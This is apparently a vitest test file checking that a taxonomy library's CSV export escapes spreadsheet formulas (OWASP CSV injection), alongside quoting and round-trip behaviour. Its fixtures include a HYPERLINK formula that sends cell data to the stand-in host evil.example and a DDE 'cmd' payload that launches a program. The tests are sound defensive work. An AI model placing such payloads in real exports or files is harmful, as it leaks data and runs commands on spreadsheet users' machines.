import { describe, expect, it } from "vitest";
import { thrownBy } from "@supportops/test-utils";
import { CSV_EXTRA_COLUMNS, TaxonomyError, createTaxonomy, taxonomyFromCsv, taxonomyToCsv } from "@supportops/taxonomy";

// Labels, codes, aliases, descriptions, reasons and fields that a spreadsheet would run as formulas.
const hostile = createTaxonomy({
  id: "t",
  version: "1",
  maxLabelLength: 300,
  nodes: [
    {
      code: "b",
      label: '=HYPERLINK("https://evil.example/?"&A1, "Refund")',
      children: [
        { code: "+b.r", label: "+1", aliases: ["=Refunds", "Money back"], description: "\t=1+1", requires: ["@f", "g"] },
        { code: "b.x", label: "-1", deprecated: { replacedBy: ["+b.r"], reason: "@reason" } },
      ],
    },
    { code: "@c", label: "@SUM(A1)", description: "\r=cmd|' /C calc'!A0" },
  ],
});

describe("taxonomyToCsv", () => {
  it("writes one row per node, quoting commas, quotes and line breaks", () => {
    const small = createTaxonomy({
      id: "t",
      version: "1",
      nodes: [{ code: "b", label: "Billing", children: [{ code: "b.r", label: 'Refund, "full"', aliases: ["Refunds", "Money back"], description: "line 1\nline 2", requires: ["ticketRef", "amount"] }] }, { code: "o", label: "Other", other: true, allowInternal: true, deprecated: { replacedBy: ["b.r"], reason: "too vague" } }],
    });
    expect(taxonomyToCsv(small)).toBe(
      [
        `level_1,level_2,${CSV_EXTRA_COLUMNS.join(",")}`,
        "Billing,,b,,,,,,,",
        'Billing,"Refund, ""full""",b.r,"Refunds\nMoney back",,,,"line 1\nline 2","ticketRef\namount",',
        "Other,,o,,true,b.r,too vague,,,true",
      ].join("\r\n"),
    );
    expect(createTaxonomy(taxonomyFromCsv(taxonomyToCsv(small), { id: "t", version: "1" })).nodes).toStrictEqual(small.nodes);
  });

  it("throws invalid_argument, never a TypeError, for a taxonomy that is not one, or options that are not { formulaEscape? }", () => {
    expect(thrownBy(TaxonomyError, () => taxonomyToCsv({ nodes: [] } as never)).issues[0].path).toStrictEqual(["taxonomy"]);
    const misspelt = thrownBy(TaxonomyError, () => taxonomyToCsv(hostile, { formulaEscapes: false } as never));
    expect([misspelt.code, misspelt.issues.map((i) => i.path)]).toStrictEqual(["invalid_argument", [["options", "formulaEscapes"]]]);
    expect(thrownBy(TaxonomyError, () => taxonomyToCsv(hostile, "no" as never)).issues[0].path).toStrictEqual(["options"]);
  });

  it("neutralises every cell a spreadsheet would run as a formula (=, +, -, @, tab, CR), in every column (OWASP CSV injection)", () => {
    expect(taxonomyToCsv(hostile).split("\r\n")).toStrictEqual([
      `level_1,level_2,${CSV_EXTRA_COLUMNS.join(",")}`,
      `"'=HYPERLINK(""https://evil.example/?""&A1, ""Refund"")",,b,,,,,,,`,
      `"'=HYPERLINK(""https://evil.example/?""&A1, ""Refund"")","'+1","'+b.r","'=Refunds\nMoney back",,,,"'\t=1+1","'@f\ng",`,
      `"'=HYPERLINK(""https://evil.example/?""&A1, ""Refund"")","'-1",b.x,,,"'+b.r","'@reason",,,`,
      `"'@SUM(A1)",,"'@c",,,,,"'\r=cmd|' /C calc'!A0",,`,
    ]);
  });

  it("escapes a multi-line cell that starts with a formula, which papaparse's own escapeFormulae pattern misses", () => {
    // papaparse's default pattern /^[=+\-@\t\r].*$/ needs the whole cell on one line.
    const tax = createTaxonomy({ id: "t", version: "1", nodes: [{ code: "a", label: "A", aliases: ['=HYPERLINK("https://evil.example")', "Refunds"] }] });
    expect(taxonomyToCsv(tax).split("\r\n")[1]).toBe(`A,a,"'=HYPERLINK(""https://evil.example"")\nRefunds",,,,,,`);
  });

  it("adds one more quote to a cell that already starts with quotes before a trigger, so it reads back as written", () => {
    const tax = createTaxonomy({ id: "t", version: "1", nodes: [{ code: "q1", label: "'=quoted" }, { code: "q2", label: "''+twice" }, { code: "q3", label: "'plain" }] });
    expect(taxonomyToCsv(tax).split("\r\n").slice(1)).toStrictEqual([`"''=quoted",q1,,,,,,,`, `"'''+twice",q2,,,,,,,`, `'plain,q3,,,,,,,`]);
    expect(taxonomyFromCsv(taxonomyToCsv(tax), { id: "t", version: "1" }).nodes.map((n) => n.label)).toStrictEqual(["'=quoted", "''+twice", "'plain"]);
  });

  it("writes cells as they are with formulaEscape: false (for a consumer that is not a spreadsheet)", () => {
    const lines = taxonomyToCsv(hostile, { formulaEscape: false }).split("\r\n");
    expect(lines[2]).toBe(`"=HYPERLINK(""https://evil.example/?""&A1, ""Refund"")",+1,+b.r,"=Refunds\nMoney back",,,,\t=1+1,"@f\ng",`);
    const settings = { id: "t", version: "1", maxLabelLength: 300, formulaEscape: false };
    expect(createTaxonomy(taxonomyFromCsv(taxonomyToCsv(hostile, { formulaEscape: false }), settings)).nodes.map((n) => n.label)).toStrictEqual(hostile.nodes.map((n) => n.label));
  });

  it("writes a node's own allowInternal: false, so a taxonomy-wide allowInternal does not take it over on import", () => {
    const tax = createTaxonomy({ id: "t", version: "1", allowInternal: true, nodes: [{ code: "a", label: "A", allowInternal: false, children: [{ code: "a.b", label: "B" }] }] });
    expect(taxonomyToCsv(tax).split("\r\n")[1]).toBe("A,,a,,,,,,,false");
    const back = createTaxonomy(taxonomyFromCsv(taxonomyToCsv(tax), { id: "t", version: "1", allowInternal: true }));
    expect(back.node("a")?.allowInternal).toBe(false);
    expect(back.nodes).toStrictEqual(tax.nodes);
  });

  it("TSDoc examples", () => {
    const formula = createTaxonomy({ id: "s", version: "1", nodes: [{ code: "x", label: '=HYPERLINK("https://evil.example")' }] });
    expect(taxonomyToCsv(formula).split("\r\n")[1]).toBe(`"'=HYPERLINK(""https://evil.example"")",x,,,,,,,`);
    const comma = createTaxonomy({ id: "s", version: "1", nodes: [{ code: "billing", label: "Billing", children: [{ code: "billing.refund", label: "Refund, full" }] }] });
    expect(CSV_EXTRA_COLUMNS[0]).toBe("code");
    expect(taxonomyToCsv(comma).split("\r\n")[0]).toBe("level_1,level_2,code,aliases,other,replaced_by,deprecated_reason,description,requires,allow_internal");
    expect(taxonomyToCsv(comma).split("\r\n")[2]).toBe('Billing,"Refund, full",billing.refund,,,,,,,');
  });
});
